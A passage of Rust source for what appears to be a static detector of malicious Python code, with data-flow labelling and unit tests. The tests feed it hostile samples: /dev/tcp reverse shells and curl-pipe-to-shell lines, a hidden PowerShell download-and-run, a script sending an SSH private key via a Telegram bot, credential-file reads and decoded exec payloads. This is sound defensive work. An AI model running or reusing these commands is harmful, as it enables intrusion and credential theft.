            for &(first, last) in self.loops {
                if let Some(slot) = by_first.get_mut(first) {
                    *slot = (*slot).max(last);
                }
            }
            let mut furthest = 0;
            for slot in &mut by_first {
                furthest = furthest.max(*slot);
                *slot = furthest;
            }
            by_first
        });
        let furthest = reach.get(line).or(reach.last()).copied().unwrap_or(0);
        line.max(furthest)
    }

    /// What variable `v` may hold when read at `line` in `scope`. In the
    /// scope that owns it, a plain name holds what its assignments up to
    /// there gave it (or later ones in a loop around the read), and what
    /// assignments in other scopes gave it: a `host` assigned further down a
    /// function is not what an earlier `ssh-keyscan host` was handed. Each
    /// of those assignments reads its own variables at its own line, the
    /// same way. Other reads take every assignment (a function reads the
    /// module's variables whenever it is called). Needs `v` solved; `depth`
    /// counts the assignments followed so far (see [`MAX_ORDERED_DEPTH`]).
    fn labels_at(&self, v: u32, scope: u32, line: usize, depth: usize) -> Labels {
        let whole = self.state.borrow().labels[v as usize];
        let (own, plain) = self.owner[v as usize];
        if whole.is_empty() || !plain || own != self.scopes.function_scope(scope) || depth > MAX_ORDERED_DEPTH {
            return whole;
        }
        let Some(ordered) = self.ordered_writers(v, own, depth) else { return whole };
        let seen = ordered.lines.partition_point(|&l| l <= self.cutoff(line));
        let before = seen.checked_sub(1).map_or(Labels::NONE, |i| ordered.upto[i]);
        // Never more than the whole-variable answer (a finished variable
        // keeps the value it had when it was finished).
        (before | ordered.elsewhere).and(whole)
    }

    /// `v`'s writers in its own scope `own` by line, with their labels (see
    /// [`Flow::ordered`]); `None` when asked again while being made.
    fn ordered_writers(&self, v: u32, own: u32, depth: usize) -> Option<std::rc::Rc<Ordered>> {
        if let Some(known) = self.ordered.borrow().get(&v) {
            return known.clone();
        }
        self.ordered.borrow_mut().insert(v, None);
        let mut steps: Vec<(usize, Labels)> = Vec::new();
        let mut elsewhere = Labels::NONE;
        for &s in &self.writers[v as usize] {
            let a = &self.assigns[s as usize];
            let l = self.step_at(s, depth + 1);
            // A parameter handed its argument (`scope_line` is the
            // callee's) takes it whenever the function is called.
            if a.line == a.scope_line && self.scopes.function_at(a.line) == own {
                steps.push((a.line, l));
            } else {
                elsewhere |= l;
            }
        }
        steps.sort_unstable_by_key(|s| s.0);
        let mut union = Labels::NONE;
        let upto = steps
            .iter()
            .map(|s| {
                union |= s.1;
                union
            })
            .collect();
        let o = std::rc::Rc::new(Ordered { lines: steps.into_iter().map(|s| s.0).collect(), upto, elsewhere });
        self.ordered.borrow_mut().insert(v, Some(o.clone()));
        Some(o)
    }

    /// What assignment `s` gives, each variable it reads taken at its line.
    fn step_at(&self, s: u32, depth: usize) -> Labels {
        if let Some(known) = self.steps_at.borrow().get(&s) {
            // Asked again while being found (a loop of assignments): what
            // the solved variables say, which is never less.
            return known.unwrap_or_else(|| self.step_whole(s));
        }
        self.steps_at.borrow_mut().insert(s, None);
        let a = &self.assigns[s as usize];
        let scope = self.scopes.at(a.line);
        let from_vars = self.read_by(s, |r| self.labels_at(r, scope, a.line, depth));
        let l = static_labels(&a.calls, &a.names, &a.strings).combine(from_vars);
        self.steps_at.borrow_mut().insert(s, Some(l));
        l
    }

    /// What assignment `s` gives from the solved variables' whole values.
    fn step_whole(&self, s: u32) -> Labels {
        let a = &self.assigns[s as usize];
        let state = self.state.borrow();
        static_labels(&a.calls, &a.names, &a.strings).combine(self.read_by(s, |r| state.labels[r as usize]))
    }

    /// What assignment `s` takes from the variables it reads, each read's
    /// labels given by `held` (the part read narrowed by the assignment's strings).
    fn read_by(&self, s: u32, held: impl Fn(u32) -> Labels) -> Labels {
        let strings = &self.assigns[s as usize].strings;
        self.reads(s).iter().fold(Labels::NONE, |l, &(r, part)| l | narrow(held(r), part, strings))
    }

    /// The variable a read of `key` at `scope` finds: the innermost scope
    /// out to the module that assigns it (Python's own rule for reads).
    fn lookup(&self, scope: u32, key: &str) -> Option<u32> {
        if let Some(class) = self.scopes.class_key(scope, key)
            && let Some(&v) = self.ids.get(&(class, key))
        {
            return Some(v);
        }
        let mut s = scope;
        loop {
            if let Some(&v) = self.ids.get(&(s, key)) {
                return Some(v);
            }
            if s == 0 || self.scopes.binds(s, key) {
                return None;
            }
            s = self.scopes.parent[s as usize];
        }
    }

    /// The variables a step reads, each with the part of it read (all of
    /// it, one value `x.get(...)`, a platform field; see [`Part`]).
    fn reads(&self, step: u32) -> &[(u32, Part)] {
        self.reads[step as usize].get_or_init(|| {
            let a = &self.assigns[step as usize];
            let scope = self.scopes.at(a.line);
            // A `return` hands its caller what the function made; what it
            // hands back of its own parameters is what that caller passed,
            // which the caller's expression already holds. Read through the
            // parameter, it would be what *every* caller passed: one call
            // of a helper (`touni(base64.b64decode(auth))`) would make
            // every other call's result decoded.
            let function = self.scopes.function_scope(scope);
            let own_param = |key: &str| self.returns_step[step as usize] && self.scopes.binds(function, key);
            let mut r = Vec::new();
            for n in a.calls.iter().chain(&a.names) {
                for_each_read(n, &self.scopes, |key, member| {
                    if !own_param(key) {
                        r.extend(self.lookup(scope, key).map(|v| (v, member)));
                    }
                });
            }
            r
        })
    }

    /// An argument's labels, read at `line`: its own, and those of the
    /// variables it reads there.
    pub fn arg_labels(&self, line: usize, a: &Arg<'_>) -> Labels {
        static_labels(&a.inner_calls, &a.names, &a.strings).combine(self.labels_read(
            self.scopes.at(line),
            Some(line),
            &a.inner_calls,
            &a.names,
            &a.strings,
        ))
    }

    /// What the variable `name` may hold at `line` (labels from its assignments).
    pub fn name_labels(&self, line: usize, name: &str) -> Labels {
        let names = [name.to_owned()];
        static_labels(&[], &names, &[]).combine(self.labels_read(self.scopes.at(line), Some(line), &[], &names, &[]))
    }

    /// What calling the file's own function `name` gives back: the labels of
    /// its `return` values, as a caller at module level sees them.
    pub fn returns(&self, name: &str) -> Labels {
        self.labels_read(0, None, std::slice::from_ref(&name.to_owned()), &[], &[])
    }

    /// Labels from the variables an expression reads or the local functions
    /// it calls, read in `scope`: at line `at` (what was assigned by then,
    /// see [`Flow::labels_at`]), or with `None` after everything ran.
    fn labels_read(
        &self,
        scope: u32,
        at: Option<usize>,
        calls: &[String],
        names: &[String],
        strings: &[String],
    ) -> Labels {
        let mut wanted: Vec<(u32, Part)> = Vec::new();
        for n in calls.iter().chain(names) {
            for_each_read(n, &self.scopes, |key, member| wanted.extend(self.lookup(scope, key).map(|v| (v, member))));
        }
        if wanted.is_empty() {
            return Labels::NONE;
        }
        let ids: Vec<u32> = wanted.iter().map(|&(v, _)| v).collect();
        self.solve(&ids);
        wanted.iter().fold(Labels::NONE, |l, &(v, member)| {
            let held = match at {
                Some(line) => self.labels_at(v, scope, line, 0),
                None => self.state.borrow().labels[v as usize],
            };
            l | narrow(held, member, strings)
        })
    }

    /// Brings `wanted` and everything they depend on to their fixed point
    /// (bounded: labels only grow, and at most 8 rounds run).
    fn solve(&self, wanted: &[u32]) {
        let mut state = self.state.borrow_mut();
        // The assignments that feed the wanted variables, transitively;
        // finished variables are constants and are not followed.
        let mut closure: Vec<u32> = Vec::new();
        let mut seen = rustc_hash::FxHashSet::default();
        let mut stack: Vec<u32> = wanted.iter().copied().filter(|&v| !state.done[v as usize]).collect();
        let mut steps = Vec::new();
        while let Some(v) = stack.pop() {
            if !seen.insert(v) {
                continue;
            }
            closure.push(v);
            for &s in &self.writers[v as usize] {
                steps.push(s);
                stack.extend(self.reads(s).iter().map(|&(r, _)| r).filter(|&r| !state.done[r as usize]));
            }
        }
        if closure.is_empty() {
            return;
        }
        // In file order, as a whole-file pass would take them.
        steps.sort_unstable();
        steps.dedup();
        let statics: Vec<Static> = steps
            .iter()
            .map(|&s| {
                let a = &self.assigns[s as usize];
                static_labels(&a.calls, &a.names, &a.strings)
            })
            .collect();
        for _ in 0..8 {
            let mut changed = false;
            for (&s, st) in steps.iter().zip(&statics) {
                let from_vars = self.read_by(s, |r| state.labels[r as usize]);
                let l = st.combine(from_vars);
                if l.is_empty() {
                    continue;
                }
                for &t in &self.targets[s as usize] {
                    // Finished variables keep their value; the others only grow.
                    let (t, old) = (t as usize, state.labels[t as usize]);
                    if !state.done[t] && (old | l) != old {
                        state.labels[t] |= l;
                        changed = true;
                    }
                }
            }
            if !changed {
                break;
            }
        }
        for v in closure {
            state.done[v as usize] = true;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::python::parse;

    #[test]
    fn a_bot_token_or_a_connection_host_is_where_sends_go() {
        let token = format!("{}:AA{}", 712345678, "b".repeat(33));
        assert!(is_address(&token), "{token}");
        assert!(!is_address("12345:AAshort"));
        // The bot is the module's, whether or not the function also hands it
        // data (a method call on a name stores into the module's variable).
        for call in ["bot.send_message(1, 2)", "bot.send_message(42, open(os.path.expanduser('~/.ssh/id_rsa')).read())"]
        {
            let src = format!("import os, telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    {call}\n");
            let facts = parse(&src);
            let labels = Flow::new(&facts).name_labels(4, "bot");
            assert!(labels.has(Labels::ADDRESS), "{call}: {labels:?} {:?}", facts.assigns);
        }
        let src = "import http.client\nc = http.client.HTTPSConnection('collector.example.invalid')\n";
        let facts = parse(src);
        assert!(Flow::new(&facts).name_labels(2, "c").has(Labels::ADDRESS));
    }

    fn sink_labels(src: &str, sink: &str) -> Labels {
        let facts = parse(src);
        let flow = Flow::new(&facts);
        let call = facts.calls.iter().find(|c| c.name == sink).unwrap_or_else(|| panic!("no {sink} call"));
        call.args.iter().fold(Labels::NONE, |l, a| l | flow.arg_labels(call.line, a))
    }

    /// A browser's cookie store is a file in a profile folder; `/cookies`
    /// at the start of a string or in a URL is a web endpoint.
    #[test]
    fn cookies_in_a_profile_folder_are_a_store_an_endpoint_is_not() {
        assert!(mentions_credentials(
            "C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies"
        ));
        assert!(mentions_credentials("~/.config/google-chrome/Default/Cookies"));
        assert!(mentions_credentials("/home/u/.mozilla/firefox/p/cookies.sqlite"));
        assert!(!mentions_credentials("/cookies"));
        assert!(!mentions_credentials("/cookies/set"));
        assert!(!mentions_credentials("https://httpbin.org/cookies"));
        assert!(mentions_credentials("https://x.example/Login Data"));
        // `Cookies` as a path's last piece is Chrome's database; as one of a
        // schema's hundreds of titles it is a word.
        let path: Vec<String> =
            ["Google", "Chrome", "User Data", "Default", "Network", "Cookies"].map(String::from).into();
        assert!(static_labels(&[], &[], &path).labels.has(Labels::CREDENTIAL));
        let mut schema: Vec<String> = (0..200).map(|i| format!("Field {i}")).collect();
        schema.push("Cookies".into());
        assert!(!static_labels(&[], &[], &schema).labels.has(Labels::CREDENTIAL));
        // A browser option's name is not a store; a path as its value is.
        assert!(!mentions_credentials("--use-mock-keychain"));
        assert!(!mentions_credentials("chrome --headless --use-mock-keychain --password-store=basic"));
        assert!(mentions_credentials(
            "--user-data-dir=C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
        ));
        assert!(mentions_credentials("security dump-keychain login.keychain"));
        assert!(mentions_credentials("security find-generic-password -wa Chrome"));
        assert!(!mentions_credentials("keychain"));
        assert!(!mentions_credentials("Whether the macOS seatbelt profile may access the keychain."));
        assert!(!static_labels(&[], &[], &["--use-mock-keychain".into()]).labels.has(Labels::CREDENTIAL));
        assert!(
            static_labels(&[], &[], &["~/Library/Keychains/login.keychain-db".into()]).labels.has(Labels::CREDENTIAL)
        );
    }

    /// A helper returning what it is given hands each caller its own
    /// argument back: one call with decoded data does not make every other
    /// call's result decoded. What the helper makes itself still flows.
    #[test]
    fn a_helper_returns_each_caller_its_own_argument() {
        let helper = "import base64\ndef touni(s, enc='utf8'):\n    return s.decode(enc)\n\
                      def auth(h):\n    return touni(base64.b64decode(h))\n\
                      def load(target):\n    name = touni(target)\n    return eval(name)\n";
        assert!(!sink_labels(helper, "eval").has(Labels::DECODED));
        let direct = "import base64\ndef touni(s):\n    return s.decode()\nexec(touni(base64.b64decode(B)))\n";
        assert!(sink_labels(direct, "exec").has(Labels::DECODED));
        let through = "import base64\ndef touni(s):\n    return s.decode()\nc = base64.b64decode(B)\nexec(touni(c))\n";
        assert!(sink_labels(through, "exec").has(Labels::DECODED));
        let decoder = "import base64\ndef unpack(s):\n    return base64.b64decode(s)\nexec(unpack(B))\n";
        assert!(sink_labels(decoder, "exec").has(Labels::DECODED));
        // Inside the helper, its parameter still holds what callers pass.
        let sink_inside = "import base64\ndef run(s):\n    exec(s)\nrun(base64.b64decode(B))\n";
        assert!(sink_labels(sink_inside, "exec").has(Labels::DECODED));
    }

    /// The whole-file fixed point the on-demand [`Flow`] must agree with:
    /// every assignment, in file order, for at most 8 rounds; variables keyed
    /// by the scope that owns them, reads resolved innermost scope first.
    type Defined = std::collections::HashSet<(u32, String)>;

    fn whole_file_labels<'f>(facts: &'f Facts<'_>) -> (HashMap<(u32, String), Labels>, Scopes<'f>, Defined) {
        let scopes = Scopes::new(facts);
        let mut vars: HashMap<(u32, String), Labels> = HashMap::default();
        // A method call on a name (`x.update(y)`, marked STORES) stores into
        // the binding its scope sees: the innermost scope that assigns the
        // name or takes it as a parameter, else the module.
        let is_store = |a: &Assign| a.calls.iter().any(|c| c == crate::facts::STORES);
        let real: Defined = facts
            .assigns
            .iter()
            .filter(|a| !is_store(a))
            .flat_map(|a| {
                let scope = scopes.at(a.scope_line);
                a.targets.iter().map(|t| (scopes.owner(scope, t, iterates(a), facts), t.clone())).collect::<Vec<_>>()
            })
            .collect();
        let owners: Vec<Vec<(u32, String)>> = facts
            .assigns
            .iter()
            .map(|a| {
                let scope = scopes.at(a.scope_line);
                a.targets
                    .iter()
                    .flat_map(|t| {
                        let s = if !is_store(a) {
                            scopes.owner(scope, t, iterates(a), facts)
                        } else {
                            let mut s = scope;
                            while s != 0 && !real.contains(&(s, t.clone())) && !scopes.binds(s, t) {
                                s = scopes.parent[s as usize];
                            }
                            s
                        };
                        let class = if s == 0 { scopes.class_key(scope, t) } else { None };
                        std::iter::once((s, t.clone())).chain(class.map(|c| (c, t.clone())))
                    })
                    .collect()
            })
            .collect();
        let defined: Defined = owners.iter().flatten().cloned().collect();
        for _ in 0..8 {
            let mut changed = false;
            for (a, owned) in facts.assigns.iter().zip(&owners) {
                let scope = scopes.at(a.line);
                // A `return` reads nothing of its own function's parameters.
                let function = scopes.function_scope(scope);
                let own = function > 0
                    && a.targets.len() == 1
                    && facts.functions.get(function as usize - 1).is_some_and(|f| f.name == a.targets[0]);
                let from_vars = read_vars(&scopes, &defined, &vars, scope, &a.calls, &a.strings, own)
                    | read_vars(&scopes, &defined, &vars, scope, &a.names, &a.strings, own);
                let l = static_labels(&a.calls, &a.names, &a.strings).combine(from_vars);
                if l.is_empty() {
                    continue;
                }
                for key in owned {
                    let entry = vars.entry(key.clone()).or_default();
                    if (*entry | l) != *entry {
                        *entry |= l;
                        changed = true;
                    }
                }
            }
            if !changed {
                break;
            }
        }
        (vars, scopes, defined)
    }

    fn read_vars(
        scopes: &Scopes<'_>,
        defined: &Defined,
        vars: &HashMap<(u32, String), Labels>,
        scope: u32,
        names: &[String],
        strings: &[String],
        skip_own_params: bool,
    ) -> Labels {
        let mut l = Labels::NONE;
        for n in names {
            for_each_read(n, scopes, |key, member| {
                if skip_own_params && scopes.binds(scopes.function_scope(scope), key) {
                    return;
                }
                if let Some(class) = scopes.class_key(scope, key)
                    && defined.contains(&(class, key.to_owned()))
                {
                    l |= narrow(vars.get(&(class, key.to_owned())).copied().unwrap_or(Labels::NONE), member, strings);
                    return;
                }
                let mut s = scope;
                loop {
                    let k = (s, key.to_owned());
                    if defined.contains(&k) {
                        l |= narrow(vars.get(&k).copied().unwrap_or(Labels::NONE), member, strings);
                        break;
                    }
                    if s == 0 || scopes.binds(s, key) {
                        break;
                    }
                    s = scopes.parent[s as usize];
                }
            });
        }
        l
    }

    #[test]
    fn on_demand_flow_agrees_with_the_whole_file_fixed_point() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests");
        let mut compared = 0;
        for dir in ["corpus", "holdout", "holdout2"] {
            for kind in ["malicious", "benign"] {
                for entry in std::fs::read_dir(root.join(dir).join(kind)).into_iter().flatten().flatten() {
                    let Ok(text) = std::fs::read_to_string(entry.path()) else { continue };
                    let facts = parse(&text);
                    let (vars, scopes, defined) = whole_file_labels(&facts);
                    let args: Vec<(usize, &Arg<'_>)> =
                        facts.calls.iter().flat_map(|c| c.args.iter().map(move |a| (c.line, a))).collect();
                    let expected: Vec<Labels> = args
                        .iter()
                        .map(|&(line, a)| {
                            let scope = scopes.at(line);
                            let from_vars =
                                read_vars(&scopes, &defined, &vars, scope, &a.inner_calls, &a.strings, false)
                                    | read_vars(&scopes, &defined, &vars, scope, &a.names, &a.strings, false);
                            static_labels(&a.inner_calls, &a.names, &a.strings).combine(from_vars)
                        })
                        .collect();
                    // Answers are memoised per variable: ask in file order and backwards.
                    // (Read as after the whole file ran: the whole-file
                    // pass does not know which assignment comes first.)
                    let anywhere = |flow: &Flow<'_>, line: usize, a: &Arg<'_>| {
                        static_labels(&a.inner_calls, &a.names, &a.strings).combine(flow.labels_read(
                            flow.scopes.at(line),
                            None,
                            &a.inner_calls,
                            &a.names,
                            &a.strings,
                        ))
                    };
                    let forward = Flow::new(&facts);
                    let got: Vec<Labels> = args.iter().map(|&(line, a)| anywhere(&forward, line, a)).collect();
                    assert_eq!(got, expected, "{}", entry.path().display());
                    // What a read at its own line sees is part of that.
                    for (&(line, a), &all) in args.iter().zip(&expected) {
                        let at = forward.arg_labels(line, a);
                        assert_eq!(at.and(all), at, "{} line {line}", entry.path().display());
                    }
                    let backward = Flow::new(&facts);
                    let mut got: Vec<Labels> =
                        args.iter().rev().map(|&(line, a)| anywhere(&backward, line, a)).collect();
                    got.reverse();
                    assert_eq!(got, expected, "{} (asked backwards)", entry.path().display());
                    compared += 1;
                }
            }
        }
        assert!(compared >= 200, "only {compared} files compared");
    }

    #[test]
    fn labels_follow_variables_functions_and_attributes() {
        let src = "import base64, urllib.request\n\
                   def fetch(u):\n    r = urllib.request.urlopen(u)\n    return r.read()\n\
                   blob = fetch('http://x')\ncode = base64.b64decode(blob)\nexec(code)\n";
        let l = sink_labels(src, "exec");
        assert!(l.has(Labels::DECODED) && l.has(Labels::FETCHED), "{l:?}");
    }

    #[test]
    fn one_environment_variable_is_not_the_environment() {
        let l = sink_labels(
            "import os, requests\nrequests.post('u', json={'user': os.environ['USERNAME']})\n",
            "requests.post",
        );
        // Only who runs it (issue 19's beacons), neither the environment nor a secret.
        assert_eq!(l, Labels::HOST_IDENTITY, "{l:?}");
        let l = sink_labels("import os, requests\nd = dict(os.environ)\nrequests.post('u', json=d)\n", "requests.post");
        assert!(l.has(Labels::ENVIRONMENT), "{l:?}");
        let l = sink_labels(
            "import os, requests\nt = os.getenv('GITHUB_TOKEN')\nrequests.post('u', data=t)\n",
            "requests.post",
        );
        // A secret, not a credential store.
        assert!(l.has(Labels::SECRET) && !l.has(Labels::CREDENTIAL), "{l:?}");
    }

    /// `aws_secret_access_key` alone is a field's name (an SDK's request
    /// body); inside a credentials file's text, and the file's path, stay
    /// credential-store markers.
    #[test]
    fn a_field_named_like_a_key_is_not_a_credential_file() {
        let body = "def config(key):\n    payload = {'aws_access_key_id': kid, 'aws_secret_access_key': key}\n    post(payload)\n";
        assert!(!sink_labels(body, "post").has(Labels::CREDENTIAL), "{body}");
        let line = "def grab(text):\n    found = re.findall('aws_secret_access_key = (.*)', text)\n    post(found)\n";
        assert!(sink_labels(line, "post").has(Labels::CREDENTIAL), "{line}");
        let path = "def grab():\n    found = open(os.path.expanduser('~/.aws/credentials')).read()\n    post(found)\n";
        assert!(sink_labels(path, "post").has(Labels::CREDENTIAL), "{path}");
    }

    /// A substitution cipher is a table built with maketrans; translating
    /// by any other table (the standard library's encoding-name
    /// normaliser) decodes nothing.
    #[test]
    fn translate_decodes_only_through_a_maketrans_table() {
        let plain =
            "MAP = ' ' * 46 + '.'\nname = ' '.join(enc.translate(MAP).split())\n__import__('encodings.' + name)\n";
        assert!(!sink_labels(plain, "__import__").has(Labels::DECODED));
        let inline = "x = s.translate(str.maketrans(A, B))\nexec(x)\n";
        assert!(sink_labels(inline, "exec").has(Labels::DECODED));
        let table = "T = str.maketrans(A[13:] + A[:13], A)\ncode = s.translate(T)\nexec(code)\n";
        assert!(sink_labels(table, "exec").has(Labels::DECODED));
        // A few characters escaped or renamed decipher nothing; an alphabet
        // written out does.
        // (Both front-ends: the second prefix is Python 2.)
        for py2 in ["", "print 'x'\n"] {
            let escape = format!("{py2}p = path.translate(str.maketrans({{' ': '\\\\ '}}))\nopen(p, 'wb')\n");
            assert!(!sink_labels(&escape, "open").has(Labels::DECODED), "{escape}");
            let rename = format!("{py2}p = s.translate(str.maketrans('-_', '+/'))\nopen(p, 'wb')\n");
            assert!(!sink_labels(&rename, "open").has(Labels::DECODED), "{rename}");
            let alphabet = format!("{py2}x = s.translate(str.maketrans('abcdefghijklm', 'nopqrstuvwxyz'))\nexec(x)\n");
            assert!(sink_labels(&alphabet, "exec").has(Labels::DECODED), "{alphabet}");
        }
    }

    /// A parameter is the function's own name even when nothing in the file
    /// passes it: a module variable of the same name does not reach it
    /// (imageio's `validate_jhove(filename)` beside a module-level
    /// `filename` from a decoded, walked list).
    #[test]
    fn a_parameter_hides_a_module_variable_of_the_same_name() {
        let src = "import base64\nfilename = base64.b64decode(blob)\n\
                   def check(filename):\n    subprocess.check_output(['tool', filename])\n";
        assert!(!sink_labels(src, "subprocess.check_output").has(Labels::DECODED));
        // Passed in by a call in the file, it carries what the caller gave.
        let called = format!("{src}check(base64.b64decode(other))\n");
        assert!(sink_labels(&called, "subprocess.check_output").has(Labels::DECODED));
        // A name that is not a parameter still reads the module's.
        let global = "import base64\nfilename = base64.b64decode(blob)\n\
                      def check(path):\n    subprocess.check_output(['tool', filename])\n";
        assert!(sink_labels(global, "subprocess.check_output").has(Labels::DECODED));
    }

    #[test]
    fn a_method_call_does_not_taint_every_attribute_of_self() {
        let src = "import os, requests\nclass C(object):\n    def run(self):\n        self.log(dict(os.environ))\n        requests.post(self.url, json={'ok': 1})\n";
        assert!(sink_labels(src, "requests.post").is_empty());
        let src = "import os, requests\nbuf = []\nbuf.append(dict(os.environ))\nrequests.post('u', json=buf)\n";
        assert!(sink_labels(src, "requests.post").has(Labels::ENVIRONMENT));
    }

    /// `self.fn` is the instance's or its class's `fn`: a module variable
    /// of that name is neither, unless a class body binds the name to it.
    #[test]
    fn self_reads_class_attributes_not_module_variables() {
        let module = "import base64\nfn = base64.b64decode(B)\nclass C(object):\n    def __init__(self, p):\n        self.other = p\n    def save(self):\n        open(self.fn, 'w')\n";
        assert!(!sink_labels(module, "open").has(Labels::DECODED), "{module}");
        let class_body = "import base64\nfn = base64.b64decode(B)\nclass C(object):\n    fn = fn\n    def save(self):\n        open(self.fn, 'w')\n";
        assert!(sink_labels(class_body, "open").has(Labels::DECODED), "{class_body}");
        // A nested class's body, and a method's return value through `self.m()`.
        let nested = "import base64\nclass A:\n    class B:\n        k = base64.b64decode(B)\n        def run(self):\n            exec(self.k)\n";
        assert!(sink_labels(nested, "exec").has(Labels::DECODED), "{nested}");
        let method = "import base64\nclass A:\n    def key(self):\n        return base64.b64decode(B)\n    def run(self):\n        exec(self.key())\n";
        assert!(sink_labels(method, "exec").has(Labels::DECODED), "{method}");
        // Bound in a method, not in the class body: not a class attribute.
        let local = "import base64\nk = base64.b64decode(B)\nclass A:\n    def setup(self):\n        k = 1\n    def run(self):\n        exec(self.k)\n";
        assert!(!sink_labels(local, "exec").has(Labels::DECODED), "{local}");
    }

    /// `fn = self.fp.name` in one method renames nothing elsewhere: another
    /// class's parameter `fn` is still that parameter.
    #[test]
    fn a_rename_of_an_attribute_of_self_stays_where_it_is_made() {
        let src = "import base64\nclass A:\n    def __init__(self, d):\n        self.fp = base64.b64decode(d)\n    def ident(self):\n        fn = self.fp.name\n        return fn\nclass B:\n    def __init__(self, fn='x.dbg'):\n        self.fn = fn\n    def dump(self):\n        open(self.fn, 'wb')\n";
        assert!(!sink_labels(src, "open").has(Labels::DECODED), "{src}");
        // A module-level rename of a module's function still resolves calls.
        let facts = parse("import os\nrun = os.system\ndef f(c):\n    run(c)\n");
        assert!(facts.calls.iter().any(|c| c.name == "os.system"));
    }

    /// A reversing slice is how a payload stored backwards is read; an
    /// attribute named `reversed` (sympy's relation with its sides swapped)
    /// reverses nothing.
    #[test]
    fn operators_and_attributes_named_like_decoders_hand_over_no_decoder() {
        let literal = "exec('1)(tnirp'[::-1])\n";
        assert!(sink_labels(literal, "exec").has(Labels::DECODED), "{literal}");
        let variable = "_data = '1)(tnirp'\ndef run():\n    code = _data[::-1]\n    exec(code)\n";
        assert!(sink_labels(variable, "exec").has(Labels::DECODED), "{variable}");
        let lambda = "import os\n_r = lambda s: s[::-1]\nos.system(_r('exe.dmc'))\n";
        assert!(sink_labels(lambda, "os.system").has(Labels::DECODED), "{lambda}");
        let attribute = "def f(rel):\n    rel = rel.reversed\n    exec(rel.lhs)\n";
        assert!(!sink_labels(attribute, "exec").has(Labels::DECODED), "{attribute}");
        // An operator table names `operator.xor`; `^` itself still decodes.
        let table = "import ast, operator\nOPS = {ast.BitXor: operator.xor, ast.Add: operator.add}\nexec(OPS)\n";
        assert!(!sink_labels(table, "exec").has(Labels::DECODED), "{table}");
        let xored = "k = 0x5a\ncode = bytes(b ^ k for b in B)\nexec(code)\n";
        assert!(sink_labels(xored, "exec").has(Labels::DECODED), "{xored}");
    }

    #[test]
    fn plain_text_decoding_is_not_a_decoder() {
        let l = sink_labels("data = open('x', 'rb').read().decode('utf-8')\nexec(data)\n", "exec");
        assert!(!l.has(Labels::DECODED), "{l:?}");
        let l = sink_labels("data = payload.decode('base64')\nexec(data)\n", "exec");
        assert!(l.has(Labels::DECODED), "{l:?}");
    }

    #[test]
    fn a_functions_variables_are_its_own() {
        // flask/cli.py's shape: `f` decoded in one function, `f` a file in another.
        let src = "import base64, os\n\
                   def unpack(blob):\n    f = base64.b64decode(blob)\n    return f\n\
                   def startup():\n    with open(os.environ.get('PYTHONSTARTUP')) as f:\n        exec(compile(f.read(), 's', 'exec'))\n";
        assert!(!sink_labels(src, "exec").has(Labels::DECODED));
        // What crosses functions still flows: module globals, enclosing
        // functions' variables, arguments and return values.
        for src in [
            "import base64\nP = base64.b64decode('cHJpbnQoMSk=')\ndef run():\n    exec(P)\n",
            "import base64\ndef outer():\n    p = base64.b64decode('cHJpbnQoMSk=')\n    def inner():\n        exec(p)\n    inner()\n",
            "import base64\ndef run(code):\n    exec(code)\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
            "import base64\ndef get():\n    return base64.b64decode('cHJpbnQoMSk=')\ndef run():\n    c = get()\n    exec(c)\n",
        ] {
            assert!(sink_labels(src, "exec").has(Labels::DECODED), "{src}");
        }
    }

    #[test]
    fn scopes_follow_nesting_and_siblings() {
        let src = "x = 1\ndef a():\n    y = 1\n    def b():\n        z = 1\n    w = 2\ndef c():\n    v = 3\nu = 4\n";
        let facts = parse(src);
        let scopes = Scopes::new(&facts);
        let (a, b, c) = (1, 2, 3);
        let at: Vec<u32> = (1..=9).map(|l| scopes.at(l)).collect();
        assert_eq!(at, vec![0, a, a, b, b, a, c, c, 0]);
        assert_eq!((scopes.parent[a as usize], scopes.parent[b as usize], scopes.parent[c as usize]), (0, a, 0));
        // Deep nesting: every level its own scope, each the parent of the next.
        let depth = 30;
        let mut src = String::new();
        for d in 0..depth {
            src.push_str(&format!("{}def f{d}():\n", "    ".repeat(d)));
        }
        src.push_str(&format!("{}pass\n", "    ".repeat(depth)));
        let facts = parse(&src);
        let scopes = Scopes::new(&facts);
        assert_eq!(scopes.at(depth + 1), depth as u32);
        assert!((1..=depth as u32).all(|s| scopes.parent[s as usize] == s - 1));
    }

    #[test]
    fn a_powershell_download_run_by_its_call_operator_runs_what_it_fetched() {
        let run =
            r#"powershell -w hidden -c "iwr http://203.0.113.9/p.exe -outfile $env:temp\p.exe; & $env:temp\p.exe""#;
        assert!(downloads_and_runs(&run.to_ascii_lowercase()));
        let local = r"iwr https://example.invalid/t.zip -outfile t.zip; .\setup.exe /quiet";
        assert!(downloads_and_runs(&local.to_ascii_lowercase()));
        let read = "iwr https://example.invalid/a.json -outfile a.json; get-content a.json";
        assert!(!downloads_and_runs(read));
    }

    #[test]
    fn dev_tcp_is_hostile_with_a_stream_on_it_not_as_a_port_probe() {
        assert!(is_hostile_command("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"));
        assert!(is_hostile_command("exec 5<>/dev/tcp/203.0.113.5/80; cat <&5 | sh"));
        assert!(is_hostile_command("sh -c 'cat /etc/passwd >& /dev/tcp/203.0.113.5/9'"));
        assert!(!is_hostile_command("docker exec db /bin/bash -c 'echo -n > /dev/tcp/db/5432'"));
    }

    #[test]
    fn a_pipe_into_a_shell_ends_the_shells_name() {
        assert!(is_hostile_command("curl -s https://x.example/i | sh"));
        assert!(is_hostile_command("curl -s https://x.example/i|sh -s --"));
        assert!(is_hostile_command("wget -qO- https://x.example/i | bash"));
        assert!(is_hostile_command("curl https://x.example/i |bash\n"));
        // A Mercurial template's filter and a checksum tool pipe into no shell.
        assert!(!is_hostile_command("hg id --template \"{id|short}\""));
        assert!(!is_hostile_command("cat f | sha256sum"));
        assert!(!is_hostile_command("git log | bashful"));
    }

    #[test]
    fn walking_a_list_backwards_is_not_decoding_a_string() {
        // jinja2/debug.py's shape: frames walked in reverse, their line numbers compiled.
        let l = sink_labels(
            "for tb in reversed(stack):\n    lineno = tb.tb_lineno\ncode = compile('\\n' * lineno + 'raise e', 'f', 'exec')\nexec(code)\n",
            "exec",
        );
        assert!(!l.has(Labels::DECODED), "{l:?}");
